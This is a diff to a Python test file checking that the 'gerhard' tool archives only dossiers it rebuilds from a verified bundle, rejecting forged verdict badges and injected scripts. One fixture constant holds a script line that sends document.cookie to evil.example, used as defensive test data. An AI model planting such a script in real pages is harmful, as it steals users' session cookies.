@@ -1,12 +1,14 @@
 """End-to-end: `gerhard register --dossier`: one downloaded file is enough to register a run.
 
 Bundle → dossier → register → outputs/<run_id>/ is byte-identical; registering by folder or by
-dossier is the same run; every bad dossier is refused with one line, exit 2, and the repository
+dossier is the same run; the archived dossier is the one gerhard builds from the verified bundle,
+never the page as it came; every bad dossier is refused with one line, exit 2, and the repository
 exactly as before.
 """
 
 from __future__ import annotations
 
+import re
 import shutil
 from pathlib import Path
 from typing import Any
@@ -16,9 +18,11 @@ from cli_helpers import assert_one_line_error, git_out, head_sha, load_yaml, run
 from conftest import snapshot
 from dossier_helpers import RUN_A, RUN_B, add_file, bundle_folder, embedded, make_dossier, tamper
 
-from gerhard import dossier_bundle, register_run
+from gerhard import dossier, dossier_bundle, register_run
 from gerhard.bundle import load_bundle
+from gerhard.dossier_bundle import read_dossier
 from gerhard.errors import UserError
+from gerhard.registration import with_folder_dossier
 
 DOSSIER_A = f"run_dossier_{RUN_A}.html"
 DOSSIER_B = f"run_dossier_{RUN_B}.html"
@@ -59,14 +63,18 @@ def green_a(registry: Path, bundle_a: Path, capsys: pytest.CaptureFixture[str]) 
     return registry
 
 
-def test_round_trip_is_byte_identical(registry: Path, folder_a: Path, dossier_a: Path, capsys) -> None:
+def test_round_trip_is_byte_identical(registry: Path, folder_a: Path, dossier_a: Path, tmp_path: Path, capsys) -> None:
+    # What gerhard archives: the dossier it builds from the bundle against the registry, as it is now.
+    rebuilt = make_dossier(
+        folder_a, "A", repo_root=registry, summary="dense baseline", next_action="start phase B", output=tmp_path
+    ).read_bytes()
     result = register_dossier(capsys, registry, dossier_a, "--phase", "A")
     assert result.rc == 0, result.err
     archive = registry / "outputs" / RUN_A
     original = load_bundle(folder_a)
     for f in original.files:
         assert (archive / f.path).read_bytes() == (folder_a / f.path).read_bytes(), f.path
-    assert (archive / DOSSIER_A).read_bytes() == dossier_a.read_bytes()
+    assert (archive / DOSSIER_A).read_bytes() == rebuilt != dossier_a.read_bytes()  # that one is not evaluated
     on_disk = sorted(p.relative_to(archive).as_posix() for p in archive.rglob("*") if p.is_file())
     assert on_disk == sorted([*original.names(), "MANIFEST", DOSSIER_A])
     assert load_bundle(archive).sha256 == original.sha256 == trailer(registry, "Gerhard-Bundle-SHA256")
@@ -109,7 +117,83 @@ def test_a_red_phase_b_dossier(green_a: Path, tmp_path: Path, capsys) -> None:
     result = register_dossier(capsys, green_a, dossier, "--fail-on-red")
     assert result.rc == 1 and f"run {RUN_B} (phase B): RED" in result.out
     assert (green_a / "state" / "needs_input" / f"{RUN_B}.yaml").is_file()
-    assert (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes() == dossier.read_bytes()
+    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
+    assert b'<span class="badge RED" id="verdict">RED</span>' in archived
+    assert b'<span class="badge" id="verdict">not evaluated</span>' in dossier.read_bytes()
+
+
+# --- the archived dossier is gerhard's own ----------------------------------------------------
+
+TRUE_BADGE = b'<span class="badge RED" id="verdict">RED</span>'
+FORGED_BADGE = b'<span class="badge GREEN" id="verdict">GREEN</span>'
+SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
+
+
+def forge(path: Path) -> Path:
+    """Edit the page around a verified bundle block: a GREEN badge, and a script outside the block."""
+    data, badges = re.subn(rb'<span class="badge[^"]*" id="verdict">[^<]*</span>', FORGED_BADGE, path.read_bytes())
+    assert badges == 1
+    path.write_bytes(data.replace(b"</head>", SCRIPT + b"\n</head>"))
+    assert read_dossier(path)[0].run_id == RUN_B  # the bundle still verifies
+    return path
+
+
+def test_a_forged_page_is_archived_as_gerhard_builds_it(green_a: Path, tmp_path: Path, capsys) -> None:
+    dossier = forge(make_dossier(bundle_folder(tmp_path, "phase_b_red", RUN_B), phase="B"))
+    result = register_dossier(capsys, green_a, dossier)
+    assert result.rc == 0 and f"run {RUN_B} (phase B): RED" in result.out
+    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
+    assert FORGED_BADGE not in archived and SCRIPT not in archived and b"evil.example" not in archived
+    assert b"<script" not in archived.replace(b'<script type="application/json" id="gerhard-bundle">', b"")
+    assert archived.count(TRUE_BADGE) == 1 and b"(phase B)" in archived
+    assert git_out(green_a, "show", f"HEAD:outputs/{RUN_B}/{DOSSIER_B}").encode() == archived
+
+
+def test_a_forged_page_in_the_folder_is_not_archived_as_it_came(green_a: Path, tmp_path: Path, capsys) -> None:
+    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
+    forge(make_dossier(folder, phase="B"))
+    result = run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", folder)
+    assert result.rc == 0, result.err
+    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
+    assert FORGED_BADGE not in archived and SCRIPT not in archived
+    assert read_dossier(green_a / "outputs" / RUN_B / DOSSIER_B)[0].bundle_sha256 == load_bundle(folder).sha256
+
+
+def test_the_folder_dossier_is_built_with_the_registry_and_the_runs_text(green_a: Path, tmp_path: Path) -> None:
+    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
+    forge(make_dossier(folder, phase="B", summary="from the notebook"))
+    files, extra = with_folder_dossier(
+        load_bundle(folder), RUN_B, {}, {}, root=green_a, phase="B", summary="given", next_action="rerun"
+    )
+    assert list(files) == [DOSSIER_B] and extra == {"dossier": DOSSIER_B}
+    page = files[DOSSIER_B]
+    assert TRUE_BADGE in page and FORGED_BADGE not in page and SCRIPT not in page
+    assert b"<p>given</p>" in page and b"from the notebook" not in page and b"rerun</p>" in page
+
+
+def test_a_dossier_gerhard_built_against_the_registry_is_archived_as_it_came(
+    green_a: Path, tmp_path: Path, capsys
+) -> None:
+    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
+    built = make_dossier(folder, "B", repo_root=green_a, summary="s", next_action="n", output=tmp_path / "d.html")
+    assert TRUE_BADGE in built.read_bytes()
+    assert register_dossier(capsys, green_a, built).rc == 0
+    assert (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes() == built.read_bytes()
+
+
+def test_registering_again_builds_nothing(
+    registry: Path, dossier_a: Path, capsys, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert register_dossier(capsys, registry, dossier_a).rc == 0
+    before = snapshot(registry)
+
+    def no_build(*args: Any) -> bytes:
+        raise AssertionError("a dossier was built for a run already registered")
+
+    monkeypatch.setattr(dossier, "dossier_page", no_build)
+    again = register_dossier(capsys, registry, dossier_a)
+    assert again.rc == 0 and "already registered (no change)" in again.out
+    assert snapshot(registry) == before
 
 
 def test_python_api_registers_a_dossier(registry: Path, dossier_a: Path) -> None:
@@ -139,7 +223,8 @@ def test_folder_then_dossier_is_a_no_op(registry: Path, folder_a: Path, dossier_
     first = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", folder_a)
     assert first.rc == 0, first.err
     assert record_of(registry, RUN_A)["dossier"] == DOSSIER_A
-    assert (registry / "outputs" / RUN_A / DOSSIER_A).read_bytes() == dossier_a.read_bytes()
+    archived, _ = read_dossier(registry / "outputs" / RUN_A / DOSSIER_A)
+    assert (archived.run_id, archived.bundle_sha256) == (RUN_A, load_bundle(folder_a).sha256)
     before = snapshot(registry)
     again = register_dossier(capsys, registry, dossier_a)
     assert again.rc == 0 and "already registered (no change)" in again.out
@@ -187,7 +272,25 @@ def test_the_notebook_writes_bundle_and_dossier_into_outputs_and_registers_in_pl
     make_dossier(in_place, phase="A")
     result = register_run(run_id=RUN_A, phase="A", source_dir=in_place, repo_root=registry)
     assert result.verdict == "GREEN" and record_of(registry, RUN_A)["dossier"] == DOSSIER_A
+    assert b'<span class="badge GREEN" id="verdict">GREEN</span>' in (in_place / DOSSIER_A).read_bytes()
     assert git_out(registry, "status", "--porcelain", "--untracked-files=all") == ""
+
+
+def test_a_forged_dossier_registered_in_place_is_refused_not_overwritten(green_a: Path, capsys) -> None:
+    in_place = Path(shutil.move(bundle_folder(green_a, "phase_b_red", RUN_B), green_a / "outputs" / RUN_B))
+    forged = forge(make_dossier(in_place, phase="B", repo_root=None)).read_bytes()
+    before = snapshot(green_a)
+    result = run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", in_place)
+    assert_one_line_error(
+        result,
+        f"gerhard register: error: {DOSSIER_B} in {in_place} is not the dossier gerhard builds for this run (built "
+        "with another summary, next action or registry state, or edited): delete it and register again",
+    )
+    assert snapshot(green_a) == before and (in_place / DOSSIER_B).read_bytes() == forged
+    (in_place / DOSSIER_B).unlink()
+    assert (
+        run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", in_place).rc == 0
+    )
 
 
 def test_a_stale_dossier_in_the_folder_is_refused(registry: Path, folder_a: Path, capsys) -> None:
